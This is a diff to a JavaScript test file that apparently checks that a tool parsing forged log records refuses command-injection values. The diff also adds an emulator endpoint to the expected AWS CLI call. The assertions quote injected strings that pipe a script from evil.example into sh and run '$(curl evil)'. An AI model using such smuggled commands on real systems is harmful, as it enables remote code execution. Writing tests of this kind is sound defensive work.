@@ -103,7 +103,8 @@ describe("log files with records that somebody forged", function () {
       /No command: 'us-east-1; curl -s https:\/\/evil\.example\/i\.sh \| sh #' is not a region name\./,
     );
     assert.match(stdout, /No command: 'AttributeKey=EventId,AttributeValue=1 \$\(curl evil\)' is not an event id/);
-    const honest = ["aws", "cloudformation", "list-stacks", "--region", "eu-west-1"];
+    const at = ["--region", "eu-west-1", "--endpoint-url", emulator.endpoint];
+    const honest = ["aws", "cloudformation", "list-stacks", ...at];
     assert.ok(
       called.some((words) => words.join(" ") === honest.join(" ")),
       stdout,
